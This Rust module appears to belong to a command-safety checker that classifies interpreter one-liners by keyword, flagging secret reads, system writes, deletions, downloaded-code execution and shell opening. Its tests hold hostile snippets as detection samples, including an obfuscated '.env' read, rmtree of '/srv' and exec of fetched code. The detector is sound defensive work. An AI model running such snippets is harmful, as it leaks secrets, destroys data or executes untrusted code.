//! One-liners in other languages: what they open, delete, start and fetch, by the words in them.
//!
//! This reads words, it does not parse the languages. Residual: names that the code builds up in other ways.

use std::collections::HashMap;
use std::sync::LazyLock;

use crate::class::Class;

use super::places::{self, Setting};

const WORDS: &str = include_str!("code.txt");

#[rustfmt::skip]
const INTERPRETERS: &[&str] = &[
    "awk", "bun", "clojure", "deno", "elixir", "emacs", "erl", "expect", "gawk", "ghc", "gnuplot", "guile", "go",
    "groovy", "irb", "jshell", "julia", "lua", "luajit", "mawk", "nawk", "node", "nodejs", "octave", "osascript",
    "perl", "php", "pwsh", "powershell", "powershell.exe", "R", "racket", "Rscript", "ruby", "sbcl", "scala", "swift",
    "tclsh", "wish", "zx", "ts-node", "tsx", "swipl", "gprolog", "raku", "ocaml", "crystal", "janet", "fennel", "hy", "gforth",
    "bb", "qjs", "mlr", "maxima", "stap", "dtrace", "lilypond", "newlisp", "factor", "nim", "m4",
];

static LISTS: LazyLock<HashMap<&'static str, Vec<String>>> = LazyLock::new(|| {
    let mut lists: HashMap<_, Vec<String>> = HashMap::new();
    for line in WORDS.lines() {
        let mut words = line.split_whitespace();
        let Some(list) = words.next().and_then(|word| word.strip_prefix('[')?.strip_suffix(']')) else {
            continue;
        };
        lists.entry(list).or_default().extend(words.map(|word| word.replace('~', " ")));
    }
    lists
});

/// Whether a program runs code in another language than the shell's.
#[must_use]
pub fn is_interpreter(program: &str) -> bool {
    let versioned = |name: &str| {
        program.strip_prefix(name).is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
    };
    INTERPRETERS.contains(&program)
        || versioned("python")
        || versioned("pypy")
        || versioned("ruby")
        || versioned("lua")
}

/// What code does, each with the text that says so.
pub(super) fn classes_of(code: &str, setting: &Setting, here: &str, found: &mut impl FnMut(Class, &str)) {
    let has = |list: &str| {
        let words = LISTS.get(list).map(Vec::as_slice).unwrap_or_default();
        words.iter().find(|word| code.contains(word.as_str())).map(String::as_str)
    };
    let mut class = |name: &str, what: &str| {
        if let Some(class) = Class::parse(name) {
            found(class, what);
        }
    };
    let literals = literals(code);
    let spots: Vec<_> =
        literals.iter().filter_map(|text| Some((text, places::spot(setting, here, text)?))).collect();
    for (text, spot) in &spots {
        if spot.is_secret() {
            class("reads(secret)", text);
        }
        if has("writes").is_some() {
            for (place, name) in [("disk", "writes(disk)"), ("startup", "writes(startup)")] {
                if spot.is(place) {
                    class(name, text);
                }
            }
            if spot.is("system") && !spot.is_scratch() && !spot.is("nothing") && text.starts_with('/') {
                class("writes(system)", text);
            }
        }
    }
    if let Some(word) = has("deletes") {
        let paths: Vec<_> = spots.iter().filter(|(text, _)| text.contains(['/', '.'])).collect();
        let known = |spot: &places::Spot| (spot.is_inside() && !spot.is_vital()) || spot.is_scratch();
        if paths.is_empty() || !paths.iter().all(|(_, spot)| known(spot)) {
            class("deletes(unknown)", word);
        }
    }
    let (runs, connects, fetches, evals) = (has("runs"), has("connects"), has("fetches"), has("evals"));
    if let Some(word) = runs {
        class("runs(hidden)", word);
    }
    if let (Some(word), true) = (connects, runs.is_some() || evals.is_some() || code.contains("sh")) {
        class("opens(shell)", word);
    }
    if let (Some(word), Some(_)) = (fetches, evals) {
        class("runs(downloaded)", word);
    }
    if let (Some(word), true) = (has("decodes"), evals.is_some() || runs.is_some() || code.contains("open("))
    {
        class("runs(hidden)", word);
    }
    if let Some(word) = has("dumps") {
        class(if fetches.is_some() { "sends(private)" } else { "reads(secret)" }, word);
    }
    if code.contains("process.env.") && super::variables::is_secret_name(code) {
        class("reads(secret)", "process.env");
    }
    if let Some(word) = has("forks") {
        class("exhausts(machine)", word);
    }
    if code.contains('`') && code.matches('`').count() >= 2 && !code.contains("${") {
        class("runs(hidden)", "`");
    }
}

/// The quoted texts of code; neighbours that are added to each other are one.
#[must_use]
pub fn literals(code: &str) -> Vec<String> {
    let (mut made, mut glued): (Vec<String>, bool) = (Vec::new(), false);
    let mut rest = code;
    while let Some(start) = rest.find(['"', '\'']) {
        let between = rest.get(..start).unwrap_or_default();
        let quote = rest.get(start..=start).unwrap_or_default();
        let after = rest.get(start + 1..).unwrap_or_default();
        let Some(end) = after.find(quote) else { break };
        let text = after.get(..end).unwrap_or_default();
        glued = !made.is_empty()
            && matches!(between.trim(), "+" | "." | ".." | "")
            && (glued || !made.is_empty());
        match made.last_mut() {
            Some(last) if glued && last.len() < 4096 => last.push_str(text),
            Some(_) | None => made.push(text.to_owned()),
        }
        rest = after.get(end + 1..).unwrap_or_default();
    }
    // Code within quotes, such as `-e 'open(".env")'` in another shell's words.
    made.truncate(256);
    made
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(code: &str, class: &str) -> bool {
        let mut found = false;
        classes_of(code, &Setting::default(), "", &mut |one, _| found |= one.to_string() == class);
        found
    }

    #[test]
    fn code_is_known_by_its_words() {
        assert!(has("print(open('.e' + 'nv').read())", "reads(secret)"));
        assert!(has("open('/etc/motd','w').write('x')", "writes(system)"));
        assert!(has("import shutil; shutil.rmtree('/srv')", "deletes(unknown)"));
        assert!(has("import urllib.request as u;exec(u.urlopen('https://x').read())", "runs(downloaded)"));
        assert!(!has("print(1)", "runs(hidden)"));
        assert!(!has("open('out.txt','w').write('hi')", "writes(system)"));
        assert!(!has("import os; os.remove('build/x')", "deletes(unknown)"));
    }
}
